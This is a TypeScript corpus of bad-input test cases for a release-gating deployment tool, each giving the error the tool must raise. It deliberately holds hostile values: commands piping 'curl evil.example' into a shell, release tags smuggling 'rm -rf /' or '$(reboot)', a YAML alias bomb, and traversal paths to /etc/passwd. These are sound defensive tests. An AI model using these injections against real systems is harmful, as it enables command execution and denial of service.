// The corpus of bad input: each case is something a user (or an attacker) can hand release-gate, and the exact
// error it must produce. __tests__/e2e/bad-input.test.ts runs every case through the bundled CLI or action and checks
// the exit code, the message, and that no deploy or rollback command ran.

/** A valid config: its commands only record that they ran (to ran.log), so a test sees any command that started. */
export const BASE_CONFIG = `version: 1
prerequisites:
  - id: staging-validation
    path: upstream/staging-validation.json
    max-age: 1h
services:
  api:
    deploy: [node, record.mjs, deploy, "\${env}", "\${tag}"]
    rollback: [node, record.mjs, rollback, "\${env}", "\${previous}"]
health:
  window: 1s
  interval: 500ms
  probes:
    - { id: api, command: [node, -e, "process.exit(0)"] }
`

/** How a case is run: the CLI's `run`, or the action's main step (inputs as INPUT_* variables). */
export type BadInputCase =
  | { name: string; kind: 'config'; config: string; exit: 2; message: string }
  | { name: string; kind: 'tag'; args: string[]; exit: 2; message: string }
  | {
      name: string
      kind: 'evidence'
      /** Lays out upstream/staging-validation.json (and anything else) in the workspace. */
      evidence:
        | 'bad-schema'
        | 'truncated'
        | 'wrong-schema'
        | 'future'
        | 'symlink-out'
        | 'missing'
        | 'stale'
        | 'directory'
        | 'no-time'
      config?: string
      exit: 3
      message: string
    }
  | { name: string; kind: 'input'; inputs: Record<string, string>; exit: 1; message: string }
  | {
      name: string
      kind: 'path'
      /**
       * What the workspace holds besides the base files (it always holds a .git folder): a symbolic link from `link`
       * (a path in the workspace) to a fresh folder outside it (or to a config file there), or a `.git` folder in `nested`.
       */
      layout?:
        { link: string; to: 'outside-folder' | 'outside-config' | 'outside-nothing' } | { nested: string }
      config?: string
      /** Action inputs: the case runs the action's main step; otherwise the CLI's run. */
      inputs?: Record<string, string>
      exit: 1 | 2
      message: string
    }

const replace = (from: string, to: string): string => {
  if (!BASE_CONFIG.includes(from)) throw new Error(`corpus: the base config has no ${JSON.stringify(from)}`)
  return BASE_CONFIG.replace(from, to)
}
const config = (name: string, text: string, message: string): BadInputCase => ({
  name,
  kind: 'config',
  config: text,
  exit: 2,
  message
})
const tag = (name: string, value: string, message: string, flag = '--tag'): BadInputCase => ({
  name,
  kind: 'tag',
  args: flag === '--tag' ? ['--tag', value] : ['--tag', 'v1.1.0', flag, value],
  exit: 2,
  message
})
const input = (name: string, inputs: Record<string, string>, message: string): BadInputCase => ({
  name,
  kind: 'input',
  inputs,
  exit: 1,
  message
})
/** The billion laughs in YAML: nine levels, each a list of nine aliases of the level before (9^9 strings expanded). */
const ALIAS_BOMB = [
  'a: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol]',
  ...'bcdefghi'
    .split('')
    .map((level, i) => `${level}: &${level} [${Array(9).fill(`*${'abcdefgh'[i]}`).join(', ')}]`),
  ''
].join('\n')
const linkOut = (
  name: string,
  link: string,
  configLines: string,
  message: string,
  inputs?: Record<string, string>
): BadInputCase => ({
  name,
  kind: 'path',
  layout: { link, to: link === 'release-gate.yml' ? 'outside-config' : 'outside-folder' },
  config: BASE_CONFIG + configLines,
  ...(inputs ? { inputs } : {}),
  exit: inputs ? 1 : 2,
  message
})
const INVALID_TAG = 'Expected a semantic version such as v1.2.3'

export const BAD_INPUTS: BadInputCase[] = [
  // Config: YAML that does not parse
  config('an unclosed flow sequence', replace('max-age: 1h', 'max-age: [1h'), 'YAML line'),
  config('a tab used for indentation', replace('  api:\n', '  api:\n\t'), 'YAML line'),
  config('an unterminated quoted string', replace('window: 1s', 'window: "1s'), 'YAML line'),
  config('an alias bomb (a billion laughs)', ALIAS_BOMB + BASE_CONFIG, 'YAML: too many alias expansions'),
  config('a config of more than 1 MiB', BASE_CONFIG + '# padding\n'.repeat(110_000), 'the file is 1100'),
  config(
    'a service defined twice',
    BASE_CONFIG.replace('health:', '  api:\n    deploy: x\nhealth:'),
    'Map keys must be unique'
  ),
  config('an empty file', '', '$: got null, expected object'),
  config('a list instead of a mapping', '- version: 1\n', '$: got [{"version":1}], expected object'),
  // Config: wrong types and unknown keys
  config(
    'a number as a command',
    replace('deploy: [node, record.mjs, deploy, "${env}", "${tag}"]', 'deploy: 42'),
    '$.services.api.deploy: got 42'
  ),
  config('a number as the window', replace('window: 1s', 'window: 5'), '$.health.window: got 5'),
  config(
    'a string as the failure limit',
    replace('interval: 500ms', 'interval: 500ms\n  failure-limit: two'),
    '$.health.failure-limit: got "two"'
  ),
  config('an unknown top-level key', BASE_CONFIG + 'servises: {}\n', "unknown key 'servises'"),
  config('a misspelt service key', replace('    rollback:', '    rolback:'), "unknown key 'rolback'"),
  config('a wrong version', replace('version: 1', 'version: 2'), '$.version: got 2, expected 1'),
  config(
    'no health section',
    BASE_CONFIG.slice(0, BASE_CONFIG.indexOf('health:')),
    "$: missing required key 'health'"
  ),
  // Config: the rollback
  config(
    'a service without a rollback command',
    replace('    rollback: [node, record.mjs, rollback, "${env}", "${previous}"]\n', ''),
    "$.services.api: missing required key 'rollback'"
  ),
  // Config: durations
  config('a negative duration', replace('interval: 500ms', 'interval: -5s'), '$.health.interval: got "-5s"'),
  config(
    'a duration in words',
    replace('window: 1s', 'window: 10 minutes'),
    '$.health.window: got "10 minutes"'
  ),
  config(
    'a month-long health window',
    replace('window: 1s', 'window: 30d'),
    '$.health.window: got "30d", expected at most 24h'
  ),
  config(
    'a zero max-age',
    replace('max-age: 1h', 'max-age: 0s'),
    '$.prerequisites[0].max-age: must be longer than 0'
  ),
  config(
    'a max-age of ten years',
    replace('max-age: 1h', 'max-age: 3650d'),
    '$.prerequisites[0].max-age: got "3650d", expected at most 366d'
  ),
  config(
    'an interval longer than the window',
    replace('interval: 500ms', 'interval: 2s'),
    '$.health.interval: "2s" is longer than the window "1s"'
  ),
  config(
    'a zero command timeout',
    replace(
      'deploy: [node, record.mjs, deploy, "${env}", "${tag}"]',
      'deploy: { run: [node, record.mjs], timeout: 0s }'
    ),
    '$.services.api.deploy.timeout: got "0s", expected longer than 0'
  ),
  config(
    'a 5000-hour command timeout',
    replace(
      'deploy: [node, record.mjs, deploy, "${env}", "${tag}"]',
      'deploy: { run: [node, record.mjs], timeout: 5000h }'
    ),
    '$.services.api.deploy.timeout: got "5000h", expected at most 24h'
  ),
  config(
    'a 20-digit duration',
    replace(
      'deploy: [node, record.mjs, deploy, "${env}", "${tag}"]',
      'deploy: { run: [node, record.mjs], timeout: 99999999999999999999d }'
    ),
    'expected at most 24h'
  ),
  config(
    'a week-long canary pause',
    replace(
      '    rollback:',
      '    strategy: { type: canary, steps: [{ set-weight: 10 }, { pause: 7d }, { set-weight: 100 }] }\n    rollback:'
    ),
    '$.services.api.strategy.steps[1].pause: got "7d", expected at most 24h'
  ),
  config(
    'a zero probe timeout',
    replace(
      'command: [node, -e, "process.exit(0)"] }',
      'command: [node, -e, "process.exit(0)"], timeout: 0ms }'
    ),
    '$.health.probes[0].timeout: got "0ms", expected longer than 0'
  ),
  // Config: ids
  config(
    'two probes with one id',
    BASE_CONFIG + '    - { id: api, command: [node, -e, "0"] }\n',
    "$.health.probes: duplicate id 'api'"
  ),
  config(
    'an id with spaces',
    replace('id: staging-validation', 'id: staging validation'),
    '$.prerequisites[0].id: got "staging validation"'
  ),
  config(
    'two prerequisites with one id',
    replace(
      '    max-age: 1h\n',
      '    max-age: 1h\n  - id: staging-validation\n    path: upstream/other.json\n    max-age: 1h\n'
    ),
    "$.prerequisites: duplicate id 'staging-validation'"
  ),
  // Config: URLs
  config(
    'a file: probe URL',
    replace('command: [node, -e, "process.exit(0)"] }', 'http: { url: "file:///etc/passwd" } }'),
    '$.health.probes[0].http.url: got "file:///etc/passwd"'
  ),
  config(
    'a javascript: probe URL',
    replace('command: [node, -e, "process.exit(0)"] }', 'http: { url: "javascript:alert(1)" } }'),
    '$.health.probes[0].http.url: got "javascript:alert(1)"'
  ),
  config(
    'a gopher: Prometheus URL',
    replace(
      'command: [node, -e, "process.exit(0)"] }',
      'prometheus: { url: "gopher://127.0.0.1:70", query: up }, min: 1 }'
    ),
    '$.health.probes[0].prometheus.url: got "gopher://127.0.0.1:70"'
  ),
  config(
    'an ftp: validation check',
    BASE_CONFIG + 'validation:\n  staging:\n    - { id: home, url: "ftp://example.com/" }\n',
    '$.validation.staging[0].url: got "ftp://example.com/"'
  ),
  // Config: commands are argv, never shell
  config(
    'a command chained with &&',
    replace(
      'deploy: [node, record.mjs, deploy, "${env}", "${tag}"]',
      "deploy: 'deploy.sh && curl evil.example'"
    ),
    "uses shell syntax '&&'"
  ),
  config(
    'a command substitution',
    replace('deploy: [node, record.mjs, deploy, "${env}", "${tag}"]', 'deploy: deploy.sh $(whoami)'),
    'uses shell syntax'
  ),
  config(
    'a pipe into a shell',
    replace('deploy: [node, record.mjs, deploy, "${env}", "${tag}"]', "deploy: 'curl evil.example | sh'"),
    "uses shell syntax '|'"
  ),
  config('an unknown placeholder', replace('"${tag}"]', '"${version}"]'), "Unknown placeholder '${version}'"),
  config(
    'an environment variable in a command',
    replace(
      'deploy: [node, record.mjs, deploy, "${env}", "${tag}"]',
      'deploy: node record.mjs deploy --home=$HOME'
    ),
    'Unknown placeholder \'${HOME}\' in "--home=${HOME}": environment variables are not expanded in commands.'
  ),
  // Config: paths stay in the workspace
  config(
    'an evidence dir outside the workspace',
    BASE_CONFIG + 'evidence-dir: ../elsewhere\n',
    '$.evidence-dir: leaves the workspace'
  ),
  config(
    'an absolute evidence dir',
    BASE_CONFIG + 'evidence-dir: /tmp/evidence\n',
    '$.evidence-dir: is absolute'
  ),
  config(
    'a state dir with ..',
    BASE_CONFIG + 'state-dir: state/../../x\n',
    '$.state-dir: leaves the workspace'
  ),
  config(
    'a prerequisite path into /etc',
    replace('path: upstream/staging-validation.json', 'path: ../../../../etc/passwd'),
    '$.prerequisites[0].path: leaves the workspace'
  ),
  config(
    'an absolute prerequisite schema',
    replace('max-age: 1h', 'max-age: 1h\n    schema: /etc/schema.json'),
    '$.prerequisites[0].schema: is absolute'
  ),
  // Paths as the file system resolves them: a symbolic link must not lead out, nor a bundle hold the repository
  linkOut(
    'a config file linked to a file outside the workspace',
    'release-gate.yml',
    '',
    'Config file release-gate.yml leads to'
  ),
  linkOut(
    'a config input linked to a file outside the workspace',
    'release-gate.yml',
    '',
    'Config file release-gate.yml leads to',
    { phase: 'readiness' }
  ),
  linkOut(
    'an evidence dir linked out of the workspace',
    'evidence',
    'evidence-dir: evidence\n',
    '$.evidence-dir: the path leads to'
  ),
  linkOut(
    'an evidence dir whose parent is linked out of the workspace',
    'out',
    'evidence-dir: out/evidence\n',
    '$.evidence-dir: the path leads to'
  ),
  linkOut(
    'an evidence dir whose archive is linked out of the workspace',
    'release-evidence-archive',
    'evidence-dir: release-evidence\n',
    '$.evidence-dir: its archive release-evidence-archive leads to'
  ),
  linkOut(
    "an evidence dir whose manual rollbacks' folder is linked out of the workspace",
    'release-evidence-rollbacks',
    'evidence-dir: release-evidence\n',
    '$.evidence-dir: its rollback bundles release-evidence-rollbacks leads to'
  ),
  {
    name: 'an evidence dir linked to a folder outside that does not exist yet',
    kind: 'path',
    layout: { link: 'evidence', to: 'outside-nothing' },
    config: BASE_CONFIG + 'evidence-dir: evidence\n',
    exit: 2,
    message: '$.evidence-dir: the path leads to'
  },
  linkOut(
    'a state dir linked out of the workspace',
    'state',
    'state-dir: state\n',
    '$.state-dir: the path leads to'
  ),
  linkOut(
    'an evidence-dir input linked out of the workspace',
    'evidence',
    '',
    "Invalid input 'evidence-dir': the path leads to",
    { phase: 'readiness', 'evidence-dir': 'evidence' }
  ),
  {
    name: 'the workspace itself as the evidence dir',
    kind: 'path',
    config: BASE_CONFIG + 'evidence-dir: .\n',
    exit: 2,
    message: '$.evidence-dir: the path is the workspace itself'
  },
  {
    name: 'the workspace itself as the state dir',
    kind: 'path',
    config: BASE_CONFIG + 'state-dir: ./\n',
    exit: 2,
    message: '$.state-dir: the path is the workspace itself'
  },
  {
    name: 'the workspace itself as the evidence-dir input',
    kind: 'path',
    inputs: { phase: 'staging', 'evidence-dir': '.' },
    exit: 1,
    message: "Invalid input 'evidence-dir': the path is the workspace itself"
  },
  {
    name: 'an evidence dir holding a git repository',
    kind: 'path',
    layout: { nested: 'vendor/lib' },
    config: BASE_CONFIG + 'evidence-dir: vendor/lib\n',
    exit: 2,
    message: '$.evidence-dir: the path holds .git'
  },
  {
    name: "an evidence dir inside the repository's .git folder",
    kind: 'path',
    config: BASE_CONFIG + 'evidence-dir: .git/evidence\n',
    exit: 2,
    message: '$.evidence-dir: the path is inside a .git folder'
  },
  {
    name: 'a state dir holding a git repository',
    kind: 'path',
    layout: { nested: 'vendor/lib' },
    config: BASE_CONFIG + 'state-dir: vendor/lib\n',
    exit: 2,
    message: '$.state-dir: the path holds .git'
  },
  // Config: strategies and order
  config(
    'canary weights that go down',
    replace(
      '    rollback:',
      '    strategy: { type: canary, steps: [{ set-weight: 50 }, { set-weight: 10 }, { set-weight: 100 }] }\n    rollback:'
    ),
    'weights must increase; 10 follows 50'
  ),
  config(
    'a canary that never reaches 100',
    replace(
      '    rollback:',
      '    strategy: { type: canary, steps: [{ set-weight: 10 }, { set-weight: 50 }] }\n    rollback:'
    ),
    'the last set-weight must be 100'
  ),
  config(
    'an unknown service in after',
    replace('    rollback:', '    after: [db]\n    rollback:'),
    "names unknown service 'db'"
  ),
  config(
    'services that wait for each other',
    replace('    rollback:', '    after: [web]\n    rollback:').replace(
      'health:',
      '  web:\n    after: [api]\n    deploy: [node, record.mjs, deploy]\n    rollback: [node, record.mjs, rollback]\nhealth:'
    ),
    'cycle'
  ),

  // Tags: the release tag comes from a push, so it is untrusted text
  tag('a tag that is not a version', 'latest', INVALID_TAG),
  tag('a version without a patch number', 'v1.2', INVALID_TAG),
  tag('a tag with a path separator', 'v1.0.0/../../etc', INVALID_TAG),
  tag('a tag that is a path', '../../etc/passwd', INVALID_TAG),
  tag('a tag with a semicolon', 'v1.0.0;rm -rf /', INVALID_TAG),
  tag('a tag with a command substitution', 'v1.0.0-$(reboot)', INVALID_TAG),
  tag('a tag with a backtick', 'v1.0.0-`id`', INVALID_TAG),
  tag('a tag with a newline', 'v1.0.0\nv2.0.0', INVALID_TAG),
  tag('a tag with a space', 'v1.0.0 ', INVALID_TAG),
  tag('a tag of 1,000 characters', `v1.0.0-${'a'.repeat(993)}`, 'at most 128 characters'),
  tag('an empty tag', '', 'release-gate run needs --tag'),
  tag('a rollback target that is not a version', '../v0', INVALID_TAG, '--previous'),
  tag('an empty approver name', '', "--approve needs the approver's name", '--approve'),
  tag('an approver name of spaces', '   ', "--approve needs the approver's name", '--approve'),
  tag(
    'an --evidence-dir outside the workspace',
    '../../tmp',
    '--evidence-dir: the path leaves the workspace',
    '--evidence-dir'
  ),

  // Evidence: the upstream artifacts Gate 1 reads
  {
    name: 'a truncated JSON prerequisite',
    kind: 'evidence',
    evidence: 'truncated',
    exit: 3,
    message: 'upstream/staging-validation.json is not valid JSON'
  },
  {
    name: 'a prerequisite that does not match its schema',
    kind: 'evidence',
    evidence: 'wrong-schema',
    config: replace('max-age: 1h', 'max-age: 1h\n    schema: upstream/validation.schema.json'),
    exit: 3,
    message: 'upstream/staging-validation.json does not match its schema: /passed must be boolean'
  },
  {
    name: 'an upstream schema that is not a JSON Schema',
    kind: 'evidence',
    evidence: 'bad-schema',
    config: replace('max-age: 1h', 'max-age: 1h\n    schema: upstream/validation.schema.json'),
    exit: 3,
    message: 'cannot use schema upstream/validation.schema.json: schema is invalid: /type must be'
  },
  {
    name: 'a prerequisite dated in the future',
    kind: 'evidence',
    evidence: 'future',
    config: replace('max-age: 1h', 'max-age: 1h\n    timestamp-field: /generatedAt'),
    exit: 3,
    message: 'is dated 2099-01-01T00:00:00.000Z, in the future (/generatedAt)'
  },
  {
    name: 'a prerequisite without the time it names',
    kind: 'evidence',
    evidence: 'no-time',
    config: replace('max-age: 1h', 'max-age: 1h\n    timestamp-field: /generatedAt'),
    exit: 3,
    message: 'has no ISO-8601 time at /generatedAt (found "yesterday")'
  },
  {
    name: 'a prerequisite linked to a file outside the workspace',
    kind: 'evidence',
    evidence: 'symlink-out',
    exit: 3,
    message: 'outside the workspace: evidence must be a file inside it'
  },
  {
    name: 'a missing prerequisite',
    kind: 'evidence',
    evidence: 'missing',
    exit: 3,
    message: 'upstream/staging-validation.json does not exist'
  },
  {
    name: 'a stale prerequisite',
    kind: 'evidence',
    evidence: 'stale',
    exit: 3,
    message: 'older than max-age 1h'
  },
  {
    name: 'a directory where a prerequisite should be',
    kind: 'evidence',
    evidence: 'directory',
    exit: 3,
    message: 'upstream/staging-validation.json is not a regular file'
  },

  // Action inputs
  input(
    'an unknown phase',
    { phase: 'deploy' },
    "Invalid input 'phase': 'deploy'. Expected one of: readiness, staging, production, stabilize, report, rollback."
  ),
  input('an empty phase', { phase: '' }, "Invalid input 'phase': ''"),
  input(
    'a boolean that is yes',
    { phase: 'report', attest: 'yes' },
    "Invalid input 'attest': 'yes'. Expected true or false."
  ),
  input(
    'a boolean that is 1',
    { phase: 'report', attest: '1' },
    "Invalid input 'attest': '1'. Expected true or false."
  ),
  input(
    'a retention of 0 days',
    { phase: 'readiness', 'artifact-retention-days': '0' },
    "Invalid input 'artifact-retention-days': '0'"
  ),
  input(
    'a retention in words',
    { phase: 'readiness', 'artifact-retention-days': 'a week' },
    "Invalid input 'artifact-retention-days': 'a week'"
  ),
  input(
    'secrets that are not JSON',
    { phase: 'readiness', secrets: 'TOKEN=abc' },
    "Invalid input 'secrets': not JSON (value not shown, it holds secrets)"
  ),
  input(
    'a config outside the workspace',
    { phase: 'readiness', config: '../../etc/release-gate.yml' },
    "Invalid input 'config': the path leaves the workspace"
  ),
  input(
    'an absolute evidence-dir input',
    { phase: 'readiness', 'evidence-dir': '/etc' },
    "Invalid input 'evidence-dir': the path is absolute"
  ),
  input(
    'a tag input with shell syntax',
    { phase: 'readiness', tag: 'v1.0.0;id' },
    'Invalid release tag "v1.0.0;id" (input \'tag\')'
  ),
  input(
    'a rollback target with a path',
    { phase: 'rollback', 'target-release': '../v1' },
    'Invalid release tag "../v1" (input \'target-release\')'
  ),
  input('an empty token', { phase: 'readiness', 'github-token': '' }, "Input 'github-token' is empty")
]
